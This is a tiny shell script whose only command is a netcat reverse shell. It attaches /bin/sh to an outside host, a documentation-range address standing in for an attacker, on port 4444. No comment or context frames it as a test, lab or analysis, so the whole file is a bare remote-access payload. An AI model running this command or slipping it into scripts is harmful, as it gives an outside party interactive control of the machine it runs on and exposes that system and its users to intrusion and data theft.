#!/bin/sh
nc -e /bin/sh 192.0.2.1 4444
